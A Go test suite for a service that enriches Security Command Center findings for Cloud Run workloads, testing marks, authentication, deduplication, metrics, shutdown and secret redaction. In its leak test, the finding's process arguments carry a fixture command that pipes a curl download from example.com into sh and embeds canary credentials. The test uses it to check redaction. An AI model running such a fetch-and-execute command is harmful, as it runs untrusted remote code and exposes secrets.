package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"cloud.google.com/go/securitycenter/apiv2/securitycenterpb"
	"github.com/google/go-cmp/cmp"
	"golang.org/x/sync/errgroup"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/types/known/fieldmaskpb"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/scc-enricher/scc-enricher/pkg/emulator"
)

// eventTime is the form of the mark event_time: RFC 3339 with nanoseconds, UTC.
const eventTime = "2006-01-02T15:04:05.000000000Z"

// closedList are the names of all marks that docs promise, without prefix.
func closedList() []string {
	return strings.Fields(`schema status sources event_time time digest verdict score own_score priority reasons summary process command
		behaviors tactics techniques indicators workload revision container image service_account exposure config_risks last_deploy
		log_signals log_excerpt logs_url vt vt_url incident related_count related incident_start incident_end next_action plan`)
}

func TestServeWritesMarks(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	f := newFinding("written")
	f.SecurityMarks = &securitycenterpb.SecurityMarks{Marks: map[string]string{"owner-team": "web", "enriched": "by hand"}}
	name, notification := r.add(f)

	r.want(notification, http.StatusNoContent, "written")

	marks := r.emu.Marks(name)
	foreign := map[string]string{"owner-team": marks["owner-team"], "enriched": marks["enriched"]}
	if diff := cmp.Diff(map[string]string{"owner-team": "web", "enriched": "by hand"}, foreign); diff != "" {
		t.Errorf("marks of others (-want +got):\n%s", diff)
	}
	for key, value := range marks {
		short, ours := strings.CutPrefix(key, "enrich_")
		if _, theirs := foreign[key]; !theirs && (!ours || !slices.Contains(closedList(), short)) {
			t.Errorf("mark %q = %q is not of the closed list", key, value)
		}
	}
	for key, want := range map[string]string{
		"enrich_schema": "1", "enrich_status": "complete", "enrich_sources": "findings=empty,logs=ok,config=ok,virustotal=empty",
		"enrich_workload": "run/shop-prod-4711/europe-west1/service/storefront", "enrich_exposure": "public",
		"enrich_event_time": f.GetEventTime().AsTime().Format(eventTime),
	} {
		if marks[key] != want {
			t.Errorf("%s = %q, want %q", key, marks[key], want)
		}
	}
	writes := r.writes()
	if len(writes) != 1 {
		t.Fatalf("%d writes, want 1", len(writes))
	}
	if got, want := writes[0].GetSecurityMarks().GetName(), name+"/securityMarks"; got != want {
		t.Errorf("written to %q, want %q", got, want)
	}
	for _, path := range writes[0].GetUpdateMask().GetPaths() {
		if !strings.HasPrefix(path, "marks.enrich_") {
			t.Errorf("the mask names %q", path)
		}
	}
	var rec struct {
		SchemaVersion int `json:"schema_version"`
	}
	records := r.records.get()
	if len(records) != 1 || json.Unmarshal(records[0], &rec) != nil || rec.SchemaVersion != 1 {
		t.Errorf("records: %q", records)
	}
}

// writes are the mark writes that the emulated API was asked for.
func (r *rig) writes() []*securitycenterpb.UpdateSecurityMarksRequest {
	var all []*securitycenterpb.UpdateSecurityMarksRequest
	for _, c := range r.emu.Calls() {
		if req, ok := c.Request.(*securitycenterpb.UpdateSecurityMarksRequest); ok {
			all = append(all, req)
		}
	}
	return all
}

// TestServeNothingToDo: what is not a new event of a Cloud Run workload is
// acknowledged without a call to any upstream, as are our own writes.
func TestServeNothingToDo(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	name, first := r.add(newFinding("quiet"))
	r.want(first, http.StatusNoContent, "written")
	digest := r.emu.Marks(name)["enrich_digest"]
	scc := r.scc()

	t.Run("echo of our own write", func(t *testing.T) {
		r.untouched(func() { r.want(r.last(), http.StatusNoContent, "echo") })
	})
	t.Run("the same message again", func(t *testing.T) {
		r.untouched(func() { r.want(first, http.StatusNoContent, "unchanged") })
	})
	t.Run("somebody else's mark", func(t *testing.T) {
		req := &securitycenterpb.UpdateSecurityMarksRequest{
			SecurityMarks: &securitycenterpb.SecurityMarks{Name: name + "/securityMarks", Marks: map[string]string{"owner-team": "web"}},
			UpdateMask:    &fieldmaskpb.FieldMask{Paths: []string{"marks.owner-team"}},
		}
		if _, err := scc.UpdateSecurityMarks(t.Context(), req); err != nil {
			t.Fatal(err)
		}
		r.untouched(func() { r.want(r.last(), http.StatusNoContent, "echo") })
	})
	t.Run("somebody edits our mark", func(t *testing.T) {
		req := &securitycenterpb.UpdateSecurityMarksRequest{
			SecurityMarks: &securitycenterpb.SecurityMarks{Name: name + "/securityMarks", Marks: map[string]string{"enrich_verdict": "likely_benign"}},
			UpdateMask:    &fieldmaskpb.FieldMask{Paths: []string{"marks.enrich_verdict"}},
		}
		if _, err := scc.UpdateSecurityMarks(t.Context(), req); err != nil {
			t.Fatal(err)
		}
		r.untouched(func() { r.want(r.last(), http.StatusNoContent, "unchanged") })
	})
	for _, mute := range []securitycenterpb.Finding_Mute{securitycenterpb.Finding_MUTED, securitycenterpb.Finding_UNMUTED} {
		t.Run("mute changes to "+mute.String(), func(t *testing.T) {
			if _, err := scc.SetMute(t.Context(), &securitycenterpb.SetMuteRequest{Name: name, Mute: mute}); err != nil {
				t.Fatal(err)
			}
			reason := "unchanged"
			if mute == securitycenterpb.Finding_MUTED {
				reason = "muted"
			}
			r.untouched(func() { r.want(r.last(), http.StatusNoContent, reason) })
		})
	}
	t.Run("an older event", func(t *testing.T) {
		at := timestamppb.New(time.Now().Add(-3 * time.Hour))
		older := edited(t, r.last(), func(f map[string]any) { f["eventTime"] = at.AsTime().Format(time.RFC3339Nano) })
		r.untouched(func() { r.want(older, http.StatusNoContent, "older") })
	})
	t.Run("inactive", func(t *testing.T) {
		req := &securitycenterpb.SetFindingStateRequest{Name: name, State: securitycenterpb.Finding_INACTIVE}
		if _, err := scc.SetFindingState(t.Context(), req); err != nil {
			t.Fatal(err)
		}
		r.untouched(func() { r.want(r.last(), http.StatusNoContent, "inactive") })
	})
	t.Run("not a container", func(t *testing.T) {
		f := newFinding("vm")
		f.ResourceName = "//compute.googleapis.com/projects/shop-prod-4711/zones/europe-west1-b/instances/4711"
		_, notification := r.add(f)
		r.untouched(func() { r.want(notification, http.StatusNoContent, "not_a_container") })
	})
	if got := r.emu.Marks(name)["enrich_digest"]; got != digest {
		t.Errorf("digest %q became %q", digest, got)
	}
}

// edited changes the finding of a notification.
func edited(t testing.TB, notification []byte, change func(finding map[string]any)) []byte {
	t.Helper()
	var n map[string]any
	if err := json.Unmarshal(notification, &n); err != nil {
		t.Fatal(err)
	}
	finding, ok := n["finding"].(map[string]any)
	if !ok {
		t.Fatalf("no finding in %s", notification)
	}
	change(finding)
	out, err := json.Marshal(n)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// TestServeNewEventOfTheSameFinding: the same finding with a later event is
// enriched again.
func TestServeNewEventOfTheSameFinding(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	f := newFinding("again")
	name, notification := r.add(f)
	r.want(notification, http.StatusNoContent, "written")
	later := newFinding("again")
	later.EventTime = timestamppb.New(f.GetEventTime().AsTime().Add(time.Minute))
	_, notification = r.add(later)
	r.want(notification, http.StatusNoContent, "written")
	if got, want := r.emu.Marks(name)["enrich_event_time"], later.GetEventTime().AsTime().Format(eventTime); got != want {
		t.Errorf("event_time %q, want %q", got, want)
	}
}

// TestServeVersion1: where the notification config is of version 1, names have
// no location, and mean the same findings.
func TestServeVersion1(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	name, notification := r.add(newFinding("v1"))
	version1 := []byte(strings.ReplaceAll(string(notification), "/locations/global", ""))
	r.want(version1, http.StatusNoContent, "written")
	if r.emu.Marks(name)["enrich_verdict"] == "" {
		t.Fatal("no marks")
	}
	echo := []byte(strings.ReplaceAll(string(r.last()), "/locations/global", ""))
	r.untouched(func() { r.want(echo, http.StatusNoContent, "echo") })
	// A delivery of an older event that was delayed, from before our marks.
	at := time.Now().Add(-3 * time.Hour).Format(time.RFC3339Nano)
	older := edited(t, version1, func(f map[string]any) { f["eventTime"] = at })
	before := r.emu.Marks(name)["enrich_event_time"]
	r.want(older, http.StatusNoContent, "older")
	if got := r.emu.Marks(name)["enrich_event_time"]; got != before {
		t.Errorf("the marks are of %s, were of %s", got, before)
	}
}

// TestServeDuplicates: Pub/Sub delivers at least once; the same message many
// times at once is written once.
func TestServeDuplicates(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	_, notification := r.add(newFinding("twice"))
	body := envelope(t, notification)
	var g errgroup.Group
	for range 8 {
		g.Go(func() error {
			status, err := post(t.Context(), r.url, body, "")
			if err == nil && status != http.StatusNoContent {
				err = fmt.Errorf("status %d", status)
			}
			return err
		})
	}
	if err := g.Wait(); err != nil {
		t.Error(err)
	}
	if n := len(r.writes()); n != 1 {
		t.Errorf("%d writes", n)
	}
	if n := len(r.records.get()); n != 1 {
		t.Errorf("%d records", n)
	}
}

// TestServeMetrics: what was done can be counted from outside.
func TestServeMetrics(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{flags: []string{"--vt-requests-per-day=7"}})
	_, notification := r.add(newFinding("metrics"))
	r.want(notification, http.StatusNoContent, "written")
	r.want(r.last(), http.StatusNoContent, "echo")
	r.want([]byte("{}"), http.StatusUnprocessableEntity, "no_finding")
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, strings.TrimSuffix(r.url, "/push")+"/metrics", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = resp.Body.Close() }()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		`scc_enricher_deliveries_total{reason="written",status="204"} 1`,
		`scc_enricher_deliveries_total{reason="echo",status="204"} 1`,
		`scc_enricher_deliveries_total{reason="no_finding",status="422"} 1`,
		`scc_enricher_mark_writes_total{result="ok"} 1`,
		`scc_enricher_records_total{result="ok"} 1`,
		`scc_enricher_source_seconds_count{source="logs",state="ok"} 1`,
		`scc_enricher_budget_left{upstream="virustotal",window="day"} 6`,
		`scc_enricher_event_to_marks_seconds_count 1`,
	} {
		if !strings.Contains(string(body), want) {
			t.Errorf("not in /metrics: %s", want)
		}
	}
}

// TestServeNeverSucceeds: without a topic for dead letters the answer is 422,
// so that the subscription's own policy keeps the message.
func TestServeNeverSucceeds(t *testing.T) {
	t.Parallel()
	rejected := newFinding("rejected").GetCanonicalName()
	r := newRig(t, rigOptions{emulator: emulator.Options{Intercept: func(_ context.Context, c emulator.Call) error {
		if req, ok := c.Request.(*securitycenterpb.UpdateSecurityMarksRequest); ok && strings.HasPrefix(req.GetSecurityMarks().GetName(), rejected) {
			return status.Error(codes.InvalidArgument, "Request contains an invalid argument.")
		}
		return nil
	}}})
	_, notification := r.add(newFinding("known"))
	_, rejectedNotification := r.add(newFinding("rejected"))
	for _, c := range []struct {
		name   string
		data   []byte
		reason string
	}{
		{"not JSON", []byte("hello"), "not_json"},
		{"no data", []byte{}, "not_json"},
		{"an empty finding", []byte(`{"finding":{}}`), "no_finding"},
		{"a list", []byte(`[]`), "no_finding"},
		{"no event time", edited(t, notification, func(f map[string]any) { delete(f, "eventTime") }), "no_event_time"},
		{"deleted in Security Command Center", edited(t, notification, func(f map[string]any) {
			f["name"], f["canonicalName"] = testSource+"/findings/gone", testSource+"/findings/gone"
		}), "gone"},
		{"marks rejected", rejectedNotification, "marks_rejected"},
	} {
		t.Run(c.name, func(t *testing.T) { r.want(c.data, http.StatusUnprocessableEntity, c.reason) })
	}
	t.Run("an envelope that cannot be read", func(t *testing.T) {
		if got := r.post([]byte(`{"message":{"data":"%%%","messageId":"1"},"subscription":"s"}`), ""); got != http.StatusUnprocessableEntity {
			t.Errorf("status %d", got)
		}
		if got := r.log.last(t)["reason"]; got != "bad_envelope" {
			t.Errorf("reason %v", got)
		}
	})
	t.Run("too large", func(t *testing.T) {
		if got := r.post(bytes.Repeat([]byte(" "), 15<<20+1), ""); got != http.StatusRequestEntityTooLarge {
			t.Errorf("status %d", got)
		}
	})
}

// TestServeMaySucceedLater: what may heal is answered 503, and heals.
func TestServeMaySucceedLater(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name   string
		code   codes.Code
		reason string
	}{
		{"unavailable", codes.Unavailable, "write_failed"},
		{"internal", codes.Internal, "write_failed"},
		{"permission denied", codes.PermissionDenied, "write_denied"},
		{"over quota", codes.ResourceExhausted, "write_quota"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			var broken atomic.Bool
			broken.Store(true)
			r := newRig(t, rigOptions{emulator: emulator.Options{Intercept: func(_ context.Context, call emulator.Call) error {
				if broken.Load() && call.Name() == "UpdateSecurityMarks" {
					return status.Error(c.code, "no")
				}
				return nil
			}}})
			name, notification := r.add(newFinding("later"))
			r.want(notification, http.StatusServiceUnavailable, c.reason)
			if len(own(r.emu.Marks(name))) > 0 || len(r.records.get()) > 0 {
				t.Error("marks or record of a failed write")
			}
			if c.code == codes.ResourceExhausted {
				return // the budget stays closed for some seconds
			}
			broken.Store(false)
			r.want(notification, http.StatusNoContent, "written")
		})
	}
	t.Run("our own write budget", func(t *testing.T) {
		t.Parallel()
		r := newRig(t, rigOptions{flags: []string{"--scc-writes-per-minute=1"}})
		_, one := r.add(newFinding("one"))
		r.want(one, http.StatusNoContent, "written")
		_, two := r.add(newFinding("two"))
		r.want(two, http.StatusServiceUnavailable, "write_quota")
		if n := r.emu.Counts()["UpdateSecurityMarks"]; n != 1 {
			t.Errorf("%d writes were asked for, the budget is 1", n)
		}
	})
	t.Run("deadline", func(t *testing.T) {
		t.Parallel()
		r := newRig(t, rigOptions{flags: []string{"--enrich-timeout=600ms", "--source-timeout=300ms"}, emulator: emulator.Options{
			Intercept: func(ctx context.Context, call emulator.Call) error {
				if call.Name() == "UpdateSecurityMarks" {
					<-ctx.Done()
				}
				return nil
			},
		}})
		_, notification := r.add(newFinding("slow"))
		r.want(notification, http.StatusServiceUnavailable, "deadline")
	})
}

// TestServeAuthenticates: tokens are verified before anything else is read.
func TestServeAuthenticates(t *testing.T) {
	t.Parallel()
	signer, err := emulator.NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	stranger, err := emulator.NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	r := newRig(t, rigOptions{signer: signer})
	name, notification := r.add(newFinding("signed"))
	token := func(s *emulator.Signer, change func(*emulator.Claims)) string {
		now := time.Now()
		c := emulator.Claims{Issuer: emulator.Issuer, Audience: r.url, Subject: "1", Email: testPusher, EmailVerified: true, IssuedAt: now.Unix(), Expiry: now.Add(time.Hour).Unix()}
		change(&c)
		signed, err := s.Sign(c)
		if err != nil {
			t.Fatal(err)
		}
		return signed
	}
	for _, c := range []struct {
		name   string
		token  string
		status int
	}{
		{"no token", "", http.StatusUnauthorized},
		{"not a token", "abc.def.ghi", http.StatusUnauthorized},
		{"somebody else's key", token(stranger, func(*emulator.Claims) {}), http.StatusUnauthorized},
		{"another audience", token(signer, func(c *emulator.Claims) { c.Audience = "https://elsewhere.example/push" }), http.StatusUnauthorized},
		{"another issuer", token(signer, func(c *emulator.Claims) { c.Issuer = "https://issuer.example" }), http.StatusUnauthorized},
		{"expired", token(signer, func(c *emulator.Claims) { c.Expiry = time.Now().Add(-time.Hour).Unix() }), http.StatusUnauthorized},
		{"another account", token(signer, func(c *emulator.Claims) { c.Email = "mallory@shop-prod-4711.iam.gserviceaccount.com" }), http.StatusForbidden},
		{"an unverified e-mail", token(signer, func(c *emulator.Claims) { c.EmailVerified = false }), http.StatusForbidden},
	} {
		t.Run(c.name, func(t *testing.T) {
			r.untouched(func() {
				if got := r.post(envelope(t, notification), c.token); got != c.status {
					t.Errorf("status %d, want %d", got, c.status)
				}
			})
			if id := r.log.last(t)["message_id"]; id != nil {
				t.Errorf("the message was read: id %v", id)
			}
		})
	}
	if len(own(r.emu.Marks(name))) > 0 {
		t.Error("marks without authentication")
	}
	if got := r.post(envelope(t, notification), token(signer, func(*emulator.Claims) {})); got != http.StatusNoContent {
		t.Errorf("the right token: status %d", got)
	}
	if r.emu.Marks(name)["enrich_verdict"] == "" {
		t.Error("no marks")
	}
	for _, body := range []string{"eyJ", "Bearer"} {
		if strings.Contains(r.log.String(), body) {
			t.Errorf("a token is in the log: %q", body)
		}
	}
}

// TestServeSourceFails: a source that fails never fails the delivery, and is
// never taken for clean.
func TestServeSourceFails(t *testing.T) {
	t.Parallel()
	const canary = "upstream-says-canary"
	fail := func(method string, code codes.Code) emulator.Options {
		return emulator.Options{Intercept: func(_ context.Context, c emulator.Call) error {
			if c.Name() == method {
				return status.Error(code, canary)
			}
			return nil
		}}
	}
	for _, c := range []struct {
		name    string
		options emulator.Options
		flags   []string
		hashes  int
		sources string
		status  string
	}{
		{"logs unavailable", fail("ListLogEntries", codes.Unavailable), nil, 1, "findings=empty,logs=error,config=ok,virustotal=empty", "partial"},
		{"logs denied", fail("ListLogEntries", codes.PermissionDenied), nil, 1, "findings=empty,logs=denied,config=ok,virustotal=empty", "partial"},
		{"logs over quota", fail("ListLogEntries", codes.ResourceExhausted), nil, 1, "findings=empty,logs=quota,config=ok,virustotal=empty", "partial"},
		{"findings denied", fail("ListFindings", codes.PermissionDenied), nil, 1, "findings=denied,logs=ok,config=ok,virustotal=empty", "partial"},
		{"service denied, revision readable", fail("GetService", codes.PermissionDenied), nil, 1, "findings=empty,logs=ok,config=partial,virustotal=empty", "partial"},
		{"workload deleted", fail("GetService", codes.NotFound), nil, 1, "findings=empty,logs=ok,config=empty,virustotal=empty", "complete"},
		{"VirusTotal broken", fail("files", codes.Unavailable), nil, 1, "findings=empty,logs=ok,config=ok,virustotal=error", "partial"},
		{"VirusTotal answers 429", emulator.Options{Quotas: emulator.Quotas{VTPerMinute: 1}}, []string{"--vt-requests-per-minute=100"}, 3, "findings=empty,logs=ok,config=ok,virustotal=partial", "partial"},
		{"VirusTotal budget spent", emulator.Options{}, []string{"--vt-requests-per-minute=1"}, 3, "findings=empty,logs=ok,config=ok,virustotal=partial", "partial"},
		{"VirusTotal refuses the key", emulator.Options{VirusTotalKey: "another"}, nil, 1, "findings=empty,logs=ok,config=ok,virustotal=denied", "partial"},
		{"VirusTotal without key", emulator.Options{}, []string{"--vt-api-key="}, 1, "findings=empty,logs=ok,config=ok,virustotal=disabled", "complete"},
		{"no whole hash", emulator.Options{}, nil, 0, "findings=empty,logs=ok,config=ok,virustotal=not_applicable", "complete"},
		{"a slow source", emulator.Options{Intercept: func(ctx context.Context, c emulator.Call) error {
			if c.Name() == "ListLogEntries" {
				<-ctx.Done()
			}
			return nil
		}}, []string{"--source-timeout=300ms"}, 1, "findings=empty,logs=timeout,config=ok,virustotal=empty", "partial"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, rigOptions{emulator: c.options, flags: c.flags})
			f := newFinding("source")
			f.Processes[0].Binary = nil
			for i := range c.hashes {
				hash := fmt.Sprintf("%064x", i+1)
				f.Files = append(f.Files, &securitycenterpb.File{Path: `"/tmp/a"`, Size: 10, HashedSize: 10, Sha256: hash})
			}
			name, notification := r.add(f)
			r.want(notification, http.StatusNoContent, "written")
			marks := r.emu.Marks(name)
			if marks["enrich_sources"] != c.sources {
				t.Errorf("sources %q, want %q", marks["enrich_sources"], c.sources)
			}
			if marks["enrich_status"] != c.status {
				t.Errorf("status %q, want %q", marks["enrich_status"], c.status)
			}
			if strings.Contains(r.log.String(), canary) {
				t.Errorf("the upstream's words are in the log: %s", r.log)
			}
		})
	}
}

// TestServeLeaksNothing plants canaries where an attacker's or a user's data
// comes in; none may come out.
func TestServeLeaksNothing(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	// Each is planted once: where one comes out tells where it came in.
	canaries := map[string]string{
		"password option":     "CanaryP4ssw0rdOption",
		"environment value":   "CanaryEnvironmentVal1",
		"bearer in a log":     "CanaryB3arerInALog12345",
		"token in a request":  "CanaryT0kenInARequest99",
		"URL userinfo":        "CanaryUserinf0Secret",
		"configuration value": "CanaryC0nfigurationValue",
		"header in arguments": "CanaryHeaderArgument77",
		"assignment":          "CanaryAss1gnmentInShell",
	}
	w.AddService(emulator.WorkloadSpec{
		Project: testProject, Location: "europe-west1", Name: "storefront", Created: time.Now().Add(-time.Hour), Public: true,
		Env: map[string]string{"PAYMENT_API_KEY": canaries["configuration value"]},
	})
	addLog(t, w, "curl: Authorization: Bearer "+canaries["bearer in a log"])
	addLog(t, w, "GET https://api.example.com/v1?access_token="+canaries["token in a request"]+" failed with error 500")
	r := newRig(t, rigOptions{emulator: emulator.Options{World: w, Intercept: func(_ context.Context, c emulator.Call) error {
		if c.Name() == "files" {
			return status.Error(codes.Unavailable, "canary: "+canaries["header in arguments"])
		}
		return nil
	}}})
	shell := "export TOKEN=" + canaries["assignment"] + "; curl -u shop:" + canaries["password option"] + " https://root:" + canaries["URL userinfo"] + "@example.com/x.sh" +
		" -H 'Authorization: Bearer " + canaries["header in arguments"] + "' | sh"
	quoted, err := json.Marshal(shell)
	if err != nil {
		t.Fatal(err)
	}
	f := newFinding("canary")
	f.Processes[0].Args = []string{`"sh"`, `"-c"`, string(quoted)}
	f.Processes[0].EnvVariables = []*securitycenterpb.EnvironmentVariable{{Name: "DB_PASSWORD", Val: `"` + canaries["environment value"] + `"`}}
	name, notification := r.add(f)
	r.want(notification, http.StatusNoContent, "written")

	records := r.records.get()
	if len(records) != 1 {
		t.Fatalf("%d records", len(records))
	}
	marks, err := json.Marshal(r.emu.Marks(name))
	if err != nil {
		t.Fatal(err)
	}
	for where, out := range map[string]string{"marks": string(marks), "record": string(records[0]), "log": r.log.String()} {
		for what, canary := range canaries {
			if i := strings.Index(strings.ToLower(out), strings.ToLower(canary)); i >= 0 {
				t.Errorf("%s is in the %s: …%s", what, where, out[max(0, i-80):i+len(canary)])
			}
		}
	}
	// The test would pass for a service that reports nothing at all.
	for _, want := range []string{"example.com", "curl", "DB_PASSWORD", "PAYMENT_API_KEY"} {
		if !strings.Contains(string(records[0]), want) {
			t.Errorf("the record does not tell %s", want)
		}
	}
	if strings.Contains(r.log.String(), "uname") || strings.Contains(r.log.String(), "curl") {
		t.Errorf("arguments are in the log: %s", r.log)
	}
}

// TestServeLogsNoPayload: a message that cannot be read is not quoted in the
// log either.
func TestServeLogsNoPayload(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	const canary = "CanaryPayload"
	for _, data := range []string{
		canary, `{"` + canary + `": 1}`, `{"finding": {"name": "` + canary + `"}}`, `{"finding": {"eventTime": "` + canary + `", "name": "projects/1/sources/2/findings/3"}}`,
		`{"finding": {"state": ["` + canary + `"], "name": "projects/1/sources/2/findings/3"}}`, `{"finding": "` + canary + `"}`,
	} {
		if got := r.deliver([]byte(data)); got != http.StatusUnprocessableEntity {
			t.Errorf("%s: status %d", data, got)
		}
	}
	r.post([]byte(`{"message":{"data":{"`+canary+`":1},"messageId":"1"}}`), "")
	r.post([]byte(`{"message":{"data":"`+canary+`%","messageId":"1"}}`), "")
	if strings.Contains(r.log.String(), canary) {
		t.Errorf("a payload is in the log: %s", r.log)
	}
}

// TestServeDrains: SIGTERM lets the delivery under way finish, and takes no
// other.
func TestServeDrains(t *testing.T) {
	t.Parallel()
	reached, release := make(chan struct{}), make(chan struct{})
	r := newRig(t, rigOptions{emulator: emulator.Options{Intercept: func(_ context.Context, c emulator.Call) error {
		if c.Name() == "UpdateSecurityMarks" {
			close(reached)
			<-release
		}
		return nil
	}}})
	name, notification := r.add(newFinding("drain"))
	body := envelope(t, notification)
	type answer struct {
		status int
		err    error
	}
	answered := make(chan answer, 1)
	go func() {
		status, err := post(t.Context(), r.url, body, "")
		answered <- answer{status, err}
	}()
	<-reached
	began := time.Now()
	stopped := make(chan error, 1)
	go func() { stopped <- r.stop() }()
	eventually(t, 5*time.Second, "refusal of further deliveries", func() bool {
		status, err := post(t.Context(), r.url, envelope(t, []byte("{}")), "")
		return err != nil || status == http.StatusServiceUnavailable
	})
	select {
	case err := <-stopped:
		t.Fatalf("serve ended with a delivery under way: %v", err)
	case <-time.After(50 * time.Millisecond):
	}
	close(release)
	if a := <-answered; a.err != nil || a.status != http.StatusNoContent {
		t.Errorf("the delivery under way: status %d, %v", a.status, a.err)
	}
	if err := <-stopped; err != nil {
		t.Errorf("serve: %v", err)
	}
	if took := time.Since(began); took > 10*time.Second {
		t.Errorf("shutting down took %s", took)
	}
	if r.emu.Marks(name)["enrich_verdict"] == "" {
		t.Error("no marks")
	}
	for _, want := range []string{`"message":"draining"`, `"message":"stopped"`} {
		if !strings.Contains(r.log.String(), want) {
			t.Errorf("not in the log: %s", want)
		}
	}
}

// TestServeAborts: a delivery that hangs is told to come again, before the
// platform kills the process.
func TestServeAborts(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("waits for the end of the drain: skipped with -short")
	}
	reached := make(chan struct{})
	r := newRig(t, rigOptions{emulator: emulator.Options{Intercept: func(ctx context.Context, c emulator.Call) error {
		if c.Name() == "UpdateSecurityMarks" {
			close(reached)
			<-ctx.Done()
		}
		return nil
	}}})
	_, notification := r.add(newFinding("hangs"))
	body := envelope(t, notification)
	status := make(chan int, 1)
	go func() {
		s, err := post(t.Context(), r.url, body, "")
		if err != nil {
			s = -1
		}
		status <- s
	}()
	<-reached
	began := time.Now()
	if err := r.stop(); err != nil {
		t.Errorf("serve: %v", err)
	}
	if took := time.Since(began); took > 10*time.Second {
		t.Errorf("shutting down took %s", took)
	}
	if got := <-status; got != http.StatusServiceUnavailable {
		t.Errorf("status %d", got)
	}
}

func TestServeRoutes(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	base := strings.TrimSuffix(r.url, "/push")
	for _, c := range []struct {
		method, path string
		status       int
	}{
		{http.MethodGet, "/healthz", http.StatusOK},
		{http.MethodGet, "/readyz", http.StatusOK},
		{http.MethodGet, "/metrics", http.StatusOK},
		{http.MethodGet, "/push", http.StatusMethodNotAllowed},
		{http.MethodPut, "/push", http.StatusMethodNotAllowed},
		{http.MethodGet, "/", http.StatusMethodNotAllowed},
		{http.MethodGet, "/elsewhere", http.StatusNotFound},
		{http.MethodPost, "/metrics", http.StatusMethodNotAllowed},
	} {
		req, err := http.NewRequestWithContext(t.Context(), c.method, base+c.path, nil)
		if err != nil {
			t.Fatal(err)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		if err := resp.Body.Close(); err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != c.status {
			t.Errorf("%s %s: status %d, want %d", c.method, c.path, resp.StatusCode, c.status)
		}
	}
	// The path without a name is a push endpoint too.
	name, notification := r.add(newFinding("root"))
	status, err := post(t.Context(), base+"/", envelope(t, notification), "")
	if err != nil || status != http.StatusNoContent || r.emu.Marks(name)["enrich_verdict"] == "" {
		t.Errorf("POST /: status %d, %v", status, err)
	}
	// So is an unwrapped subscription's body.
	name, notification = r.add(newFinding("unwrapped"))
	if got := r.post(notification, ""); got != http.StatusNoContent || r.emu.Marks(name)["enrich_verdict"] == "" {
		t.Errorf("unwrapped: status %d", got)
	}
}

// TestServeIncident: the second finding on a container joins the first in an
// incident, and says so in its marks.
func TestServeIncident(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	_, one := r.add(newFinding("member-1"))
	r.want(one, http.StatusNoContent, "written")
	f := newFinding("member-2")
	f.Category = "Reverse Shell"
	name, two := r.add(f)
	r.want(two, http.StatusNoContent, "written")
	marks := r.emu.Marks(name)
	if !strings.HasPrefix(marks["enrich_incident"], "inc-") || marks["enrich_related_count"] != "1" {
		t.Errorf("incident %q with %q others", marks["enrich_incident"], marks["enrich_related_count"])
	}
}

// TestServeRecordFails: a record that cannot be published is said in the log,
// and does not undo the marks.
func TestServeRecordFails(t *testing.T) {
	t.Parallel()
	l, log := listen(t), &buffer{}
	w := newWorld(t)
	emu, err := emulator.New(emulator.Options{World: w})
	if err != nil {
		t.Fatal(err)
	}
	api, err := emu.Start(t.Context(), "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var notification []byte
	w.OnPublish(func(n emulator.Notification) { notification = n.Data })
	serveOn(t, l, log, func(svc *service) { svc.pipeline.Records = brokenRecords{} },
		"--scc-endpoint="+api, "--logging-endpoint="+api, "--run-endpoint="+api, "--push-auth=none")
	f := newFinding("record")
	if err := w.AddFinding(f, nil, nil); err != nil {
		t.Fatal(err)
	}
	status, err := post(t.Context(), "http://"+l.Addr().String()+"/push", envelope(t, notification), "")
	if err != nil || status != http.StatusNoContent {
		t.Errorf("status %d, %v", status, err)
	}
	if w.Marks(f.GetCanonicalName())["enrich_verdict"] == "" {
		t.Error("no marks")
	}
	if got := log.last(t)["record_error"]; got != "topic away" {
		t.Errorf("record_error %v", got)
	}
}

type brokenRecords struct{}

func (brokenRecords) Record(context.Context, []byte, map[string]string) error {
	return errors.New("topic away")
}
